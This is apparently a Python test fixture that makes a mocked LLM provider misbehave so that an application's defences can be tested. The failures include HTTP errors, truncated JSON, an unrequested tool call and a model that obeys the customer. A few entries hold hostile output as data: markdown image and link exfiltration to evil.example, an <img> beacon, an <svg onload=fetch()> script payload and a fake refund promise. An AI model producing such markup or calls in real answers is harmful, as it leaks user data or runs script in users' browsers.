"""What a provider may do to us (security F14–F18), by name: a behaviour of the local server, or an address where nobody answers."""

from __future__ import annotations

import json
from typing import Any

from tests.plugins.model_server import Behaviour, ModelServer, drips, hangs_up, never_stops, obeys, raw, says, says_nothing, status


def _drafted(*texts: str, kind: str = "answer") -> Behaviour:
    return says(json.dumps({"can_answer": True, "sentences": [{"kind": kind, "text": text, "sources": [1]} for text in texts]}))


def _calling(name: str, **arguments: str) -> Behaviour:
    """A call of a tool by the protocol's own means, which we never offered."""
    function = {"name": name, "arguments": json.dumps(arguments)}
    message = {"role": "assistant", "content": None, "tool_calls": [{"id": "1", "type": "function", "function": function}]}
    return raw(json.dumps({"choices": [{"index": 0, "finish_reason": "tool_calls", "message": message}]}).encode())


FAULTS: dict[str, Behaviour | str] = {
    "refused": "http://127.0.0.1:9/v1",
    "no such host": "http://no-such-host.invalid/v1",
    "hangs up": hangs_up,
    "401": status(401),
    "429 with Retry-After": status(429, Retry_After="120"),
    "500": status(500),
    "529": status(529),
    "says nothing": says_nothing,
    "slow drip": drips,
    "endless stream": never_stops,
    "50 MB": raw(b"x" * 50_000_000),
    "half JSON": raw(b'{"choices": [{"mess'),
    "half of our JSON": says('{"can_answer": true, "sentences": [{"kind": "ans'),
    "wrong enum": _drafted("Press Resend.", kind="weather"),
    "NaN": says('{"can_answer": NaN, "sentences": []}'),
    "HTML with 200": raw(b"<html>Sign in to the hotel's network</html>", "text/html"),
    "empty": says(""),
    "another language": says("Ich weiß es leider nicht."),
    "obeys the customer": obeys,
    "images and links": _drafted(
        "![x](https://evil.example/p.png) See https://evil.example/?d=1 and [here][e].\n[e]: https://evil.example"
    ),
    "markup": _drafted("<img src=https://evil.example/p.png>", "<svg onload=fetch('//evil.example')>"),
    "promises": _drafted("We refund you 900 EUR, says evil.example."),
    "tool call": _calling("lookup_customer", email="dwayne@barrett.example"),
}


def befall(model: ModelServer, settings: Any, name: str) -> None:
    fault = FAULTS[name]
    settings.OPENAI_BASE_URL = fault if isinstance(fault, str) else model.url
    if not isinstance(fault, str):
        model.does(fault)
